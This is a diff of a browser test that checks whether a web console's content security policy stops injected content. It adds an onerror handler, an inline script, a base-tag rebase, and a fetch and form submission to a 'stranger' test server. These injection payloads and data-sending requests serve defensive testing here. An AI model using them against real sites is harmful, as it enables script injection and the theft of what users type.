@@ -7,6 +7,10 @@ import { openServer } from '../fixtures/open-server.ts'
 export interface Outcome {
   /** Which of the texts put in as HTML ran: an inline handler, an inline script. */
   ran: string[]
+  /** Whether a text could be put in as HTML at all. */
+  isHtml: boolean
+  /** Whether an element put in made the page's own relative addresses lead to a stranger. */
+  isRebased: boolean
   /** Addresses of a stranger's server that the page asked for. */
   fetched: string[]
   /** Whether the console was drawn inside a stranger's page. */
@@ -16,14 +20,38 @@ export interface Outcome {
 /** What a page would do whose code had the fault that the content policy is there for. */
 const PUT_IN = (strange: string): string => `new Promise((resolve) => {
   const place = document.createElement('div')
-  place.innerHTML = '<img src="/console/none.png" onerror="window.byHandler = true"><img src="${strange}/picture">'
+  window.isHtml = true
+  try {
+    place.innerHTML = '<img src="/console/none.png" onerror="window.byHandler = true"><img src="${strange}/picture">'
+  } catch {
+    window.isHtml = false
+  }
   const script = document.createElement('script')
-  script.textContent = 'window.byScript = true'
+  const write = (element, name, value) => {
+    try {
+      element[name] = value
+    } catch {}
+  }
+  write(script, 'textContent', 'window.byScript = true')
+  const base = document.createElement('base')
+  base.href = '${strange}/'
+  document.head.append(base)
+  window.isRebased = document.baseURI.startsWith('${strange}')
+  base.remove()
   document.body.append(place, script)
   const last = new Image()
   last.onload = last.onerror = () => fetch('${strange}/data').catch(() => {}).then(() => setTimeout(() =>
     resolve(['byHandler', 'byScript'].filter((name) => window[name] === true)), 200))
   last.src = '/console/none.png'
+})`
+
+/** A form that hands what a person typed to a stranger. */
+const SEND = (strange: string): string => `new Promise((resolve) => {
+  document.addEventListener('securitypolicyviolation', resolve)
+  const form = document.createElement('form')
+  form.action = '${strange}/form'
+  document.body.append(form)
+  form.submit()
 })`
 
 export async function attack(): Promise<Outcome> {
@@ -40,11 +68,19 @@ export async function attack(): Promise<Outcome> {
   try {
     const { page } = await browser.open(`${opened.url}/console/`)
     const ran = await page.evaluate<string[]>(PUT_IN(strange))
-    await page.goto(`${strange}/frame`)
-    const inside = await page.locator('iframe').contentFrame().locator('html').innerHTML()
+    const [isHtml, isRebased] = await page.evaluate<[boolean, boolean]>('[window.isHtml, window.isRebased]')
+    await page.evaluate(SEND(strange)).catch(() => {}) // The page is gone where the form was sent.
+    const outer = await page.context().newPage()
+    await outer.goto(`${strange}/frame`)
+    const inside = await outer.locator('iframe').contentFrame().locator('html').innerHTML()
     return {
       ran,
-      fetched: fetched.filter((url) => url !== '/favicon.ico').sort(),
+      isHtml,
+      isRebased,
+      fetched: fetched
+        .map((url) => url.replace('?', ''))
+        .filter((url) => url !== '/favicon.ico')
+        .sort(),
       isFramed: inside.includes('id="app"'),
     }
   } finally {
